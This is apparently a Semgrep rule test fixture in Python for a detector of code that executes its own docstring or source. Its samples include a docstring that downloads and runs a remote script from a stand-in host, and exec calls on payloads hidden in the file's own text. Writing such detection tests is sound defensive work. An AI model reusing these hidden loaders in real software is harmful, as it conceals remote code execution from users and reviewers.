import inspect
from pathlib import Path


def _maintenance():
    """
    import os, urllib.request
    exec(urllib.request.urlopen("https://example.com/m.py").read())
    """


def run_maintenance() -> None:
    # ruleid: exec-of-docstring-or-own-source
    exec(_maintenance.__doc__)


def run_trailer() -> None:
    source = Path(__file__).read_text()
    payload = source.split("#" + "--payload--")[1].replace("#", "")
    # ruleid: exec-of-docstring-or-own-source
    exec(compile(payload, "<trailer>", "exec"))


def run_sliced_trailer() -> None:
    source = Path(__file__).read_text()
    # Semgrep's taint engine does not follow slices with variable bounds.
    # todoruleid: exec-of-docstring-or-own-source
    exec(source[source.rindex("#--payload--") :])


def usage() -> str:
    # ok: exec-of-docstring-or-own-source
    return inspect.getdoc(run_maintenance) or ""


def version() -> str:
    text = Path(__file__).with_name("VERSION").read_text()
    # ok: exec-of-docstring-or-own-source
    return eval(repr(text.strip()))  # a literal round-trip of a version file, not the module's own source
